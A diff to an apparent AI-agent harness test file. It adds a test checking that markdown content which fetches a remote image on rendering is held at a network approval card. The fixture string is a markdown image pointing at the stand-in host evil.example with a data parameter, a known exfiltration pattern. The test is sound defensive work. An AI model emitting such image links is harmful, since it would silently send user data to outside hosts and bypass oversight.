@@ -50,6 +50,18 @@ it.each(
   expect(site.kernel).toEqual([]);
 });
 
+it('text that sends something when it is drawn stops at a card with “outside”', async () => {
+  const site = new PlanSite();
+  const content = '![](https://evil.example/p.png?d=1)';
+  site.steps.Load = [
+    { calls: [{ name: 'markdown', args: { content } }] },
+    final('Did it.')
+  ];
+  const page = await begun(site, 'outside');
+  const [{ card }] = await page.waiting();
+  expect(card).toMatchObject({ tool: 'markdown', effect: 'network' });
+});
+
 it('“step” asks for each step and then lets its cells through, and no others', async () => {
   const site = new PlanSite();
   const page = await begun(site, 'step');
